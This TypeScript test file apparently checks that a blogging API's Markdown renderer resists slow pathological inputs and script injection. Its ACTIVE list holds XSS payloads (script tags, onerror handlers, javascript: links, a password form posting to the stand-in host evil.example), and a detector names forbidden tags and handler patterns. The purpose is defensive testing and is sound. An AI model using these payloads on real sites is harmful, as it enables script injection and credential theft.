import { JSON_TYPE } from '../good-requests.ts'
import type { RawRequest } from '../raw-client.ts'
import { type Abuse, jsonOf, send } from '../target.ts'
import { tagsOf } from './html-tags.ts'

/** Texts that make a poor pattern or parser extremely slow. */
const ENDLESS: Readonly<Record<string, string>> = {
  'open brackets': '['.repeat(50_000),
  'open links': '[a](<'.repeat(20_000),
  'links in links': `${'['.repeat(5000)}a${'](b)'.repeat(5000)}`,
  'open images': '![a]('.repeat(20_000),
  stars: '*'.repeat(100_000),
  'stars and letters': '*a **a '.repeat(20_000),
  'underscores and letters': 'a_'.repeat(50_000),
  'stars that never close': '**x'.repeat(30_000),
  backticks: Array.from({ length: 500 }, (_, i) => `\`${'`'.repeat(i)}a`).join(''),
  quotes: '>'.repeat(20_000),
  'quotes on lines': `${'> '.repeat(300)}a\n`.repeat(300),
  lists: Array.from({ length: 800 }, (_, i) => `${' '.repeat(i)}- a`).join('\n'),
  'lists side by side': '- '.repeat(20_000),
  tables: `${'|a'.repeat(2000)}|\n${'|-'.repeat(2000)}|\n${`${'|a'.repeat(2000)}|\n`.repeat(20)}`,
  headings: '# a\n'.repeat(20_000),
  'headings alike': '# same\n'.repeat(5000),
  'open tags': '<a '.repeat(30_000),
  'open comments': '<!--'.repeat(30_000),
  declarations: '<!'.repeat(30_000),
  instructions: '<?'.repeat(30_000),
  cdata: '<![CDATA['.repeat(20_000),
  'nested elements': `${'<div>'.repeat(20_000)}a`,
  entities: '&a'.repeat(50_000),
  'entities that are none': `&${'a'.repeat(100_000)};`,
  backslashes: '\\'.repeat(100_000),
  blanks: `a${' '.repeat(100_000)}b`,
  'line breaks': 'a  \n'.repeat(30_000),
  tabs: '\t'.repeat(100_000),
  'reference definitions': Array.from({ length: 20_000 }, (_, i) => `[r${i}]: /x "y`).join('\n'),
  'references to one another': `${'[a][b] '.repeat(20_000)}\n[b]: /x`,
  footnotes: Array.from({ length: 5000 }, (_, i) => `[^${i}]\n\n[^${i}]: a\n`).join('\n'),
  'footnotes in footnotes': Array.from({ length: 500 }, (_, i) => `[^${i}]: see [^${i + 1}]\n`).join('\n'),
  addresses: 'http://'.repeat(20_000),
  'addresses in mail': 'a@'.repeat(30_000),
  'dots and letters': 'a.'.repeat(50_000),
  paywalls: '<!-- paywall -->'.repeat(20_000),
  'code in no language': '```x'.repeat(20_000),
  'code that never ends': `\`\`\`js\n${'(('.repeat(20_000)}`,
  'code of one line': `\`\`\`ts\n${'a=>{'.repeat(20_000)}\n\`\`\``,
  'code with a regular expression': `\`\`\`js\n/${'(a+)+'.repeat(3000)}/\n\`\`\``,
  'code in a language that is none': `\`\`\`${'x'.repeat(50_000)}\na\n\`\`\``,
  kanji: '漢字**強調**です。'.repeat(5000),
  'a million letters': 'a'.repeat(1_000_000),
  'a million full stops': '。'.repeat(1_000_000),
  'half a million lines': 'a\n'.repeat(500_000),
}

/** Texts that a poor renderer turns into active HTML. */
const ACTIVE: readonly string[] = [
  '<script>abuse()</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<img src=x onerror=abuse()>',
  '<svg onload=abuse()><animate onbegin=abuse() /></svg>',
  '<math><mi//xlink:href="data:x,<script>abuse()</script>">',
  '<iframe srcdoc="<script>abuse()</script>"></iframe>',
  '<object data="javascript:abuse()"></object>',
  '<form action="//evil.example"><input name=password></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="position:fixed;inset:0">over everything</p>',
  '<a href="javascript:abuse()">a</a>',
  '<a href="jav&#x09;ascript:abuse()">a</a>',
  '<a href="&#106;avascript:abuse()">a</a>',
  '[a](javascript:abuse())',
  '[a](JaVaScRiPt:abuse())',
  '[a](&#106;avascript:abuse())',
  '[a](vbscript:abuse())',
  '[a](data:text/html;base64,PHNjcmlwdD5hYnVzZSgpPC9zY3JpcHQ+)',
  '![a](javascript:abuse())',
  '![a" onerror="abuse()](x)',
  '[a](x "t" onclick="abuse()")',
  '<javascript:abuse()>',
  '[r]\n\n[r]: javascript:abuse()',
  '```"><script>abuse()</script>\na\n```',
  '```html\n<script>abuse()</script>\n```',
  '`<script>abuse()</script>`',
  '# <script>abuse()</script>',
  '# a {onclick=abuse()}',
  '[^"><script>abuse()</script>]\n\n[^"><script>abuse()</script>]: a',
  '| <script>abuse()</script> |\n|-|\n| <img src=x onerror=abuse()> |',
  '<!-- --><script>abuse()</script>',
  '<!-- paywall --><script>abuse()</script>',
  '<noscript><p title="</noscript><img src=x onerror=abuse()>">',
  '<a id="documentElement" name="cookie">a</a>',
  '<input id=attributes><button formaction=javascript:abuse()>a</button>',
]

/** URLs that cannot be parsed, in places where a feed or page resolves URLs. */
const UNRESOLVABLE: readonly string[] = [
  '`<img src="//%s/logo.png">`',
  '```html\n<a href="//[/">\n```',
  '<img src="//%s/logo.png">',
  '![a](//%s/x.png) ![a](//[/x.png) ![a](http://%s/)',
  '<a href="/\\[">a</a> [a](#%) [a](/%) [a](http://[)',
  ']]> <![CDATA[ ]]&gt; &#xD800; &#0; &#x1;',
]

const FORBIDDEN_TAGS = new Set(
  'script iframe object embed form base meta link style svg math noscript button textarea'.split(' '),
)

/** The active part of HTML: scripts, handlers or links to them; undefined if there is none. */
function activePart(html: string): string | undefined {
  for (const { name, attributes } of tagsOf(html)) {
    if (FORBIDDEN_TAGS.has(name)) return `<${name}>`
    for (const [key, value] of attributes) {
      const isActive = /^(on.*|style|srcdoc|formaction)$/.test(key) || /^(javascript|vbscript|data:text)/i.test(value)
      if (isActive) return `<${name} ${key}="${value}">`
    }
  }
  return undefined
}

/** Whatever an author writes, it delays no request and is not active in a reader's browser. */
export async function abuseMarkdown(abuse: Abuse): Promise<void> {
  const { cookie, username } = await abuse.testData.person()
  const endless = Object.entries(ENDLESS)
  const chosen = abuse.isQuick ? abuse.random.sample(endless, 2) : endless
  for (const [what, content] of [...chosen, ...[...ACTIVE, ...UNRESOLVABLE].map(text => [text, text] as const)]) {
    await publishAndRead(abuse, { ...JSON_TYPE, cookie }, what, content)
  }
  await readEverywhere(abuse, { ...JSON_TYPE, cookie }, username)
}

/** No text breaks a page that lists it among others. */
async function readEverywhere(abuse: Abuse, headers: RawRequest['headers'], username: string): Promise<void> {
  const { client, answers, findings } = abuse
  const thumbnail_url = 'https://example.com/%s?]]>'
  for (const text of abuse.isQuick ? UNRESOLVABLE.slice(0, 1) : UNRESOLVABLE) {
    const post = {
      title: text.slice(0, 100),
      content: text,
      status: 'published',
      thumbnail_url,
      cover_image_url: thumbnail_url,
    }
    const created = await client.send({
      method: 'POST',
      path: '/api/v1/posts',
      headers: { ...headers },
      body: JSON.stringify(post),
    })
    const slug = jsonOf(created)?.slug
    findings.check(slug !== undefined, `a post of ${text} was refused: ${created.status}`)
    const pages = ['/', '/feed.xml', `/@${username}`, `/@${username}/feed.xml`, '/sitemap-posts-1.xml', '/llms.txt']
    for (const path of [...pages, `/@${username}/${encodeURIComponent(slug ?? '')}`]) {
      const page = await client.send({ method: 'GET', path })
      answers.checkPage(page, `GET ${path} with ${text}`)
      findings.check(page.status === 200, `GET ${path} with ${text}: ${page.status}`)
    }
  }
}

async function publishAndRead(
  abuse: Abuse,
  headers: RawRequest['headers'],
  what: string,
  content: string,
): Promise<void> {
  const { operations, findings } = abuse
  const ask = (name: string, id: string, body?: object) => {
    const operation = operations.find(it => it.name === name)
    const { method = '', template = '' } = operation ?? {}
    const sent = { method, path: template.replace('{id}', id), headers: { ...headers } }
    return send(abuse, operation, { ...sent, ...(body && { body: JSON.stringify(body) }) }, `${name} of ${what}`)
  }
  const post = { title: what.slice(0, 60), content, status: 'published', tags: [what.slice(0, 40).trim()] }
  const created = await ask('createPost', '', post)
  const id = jsonOf(created)?.id
  if (id === undefined) return findings.fail(`a post of ${what} was refused: ${created?.status}`)
  const answers = [
    await ask('readPublicPost', id),
    await ask('readPublicPostHtml', id),
    await ask('previewMarkdown', id, { content }),
  ]
  for (const answer of answers) {
    findings.check(answer?.status === 200, `${what} cannot be read: ${answer?.status}`)
    const active = activePart(jsonOf(answer)?.html ?? '')
    findings.check(active === undefined, `${what}: ${active} can act`)
  }
  await ask('deletePost', id)
}
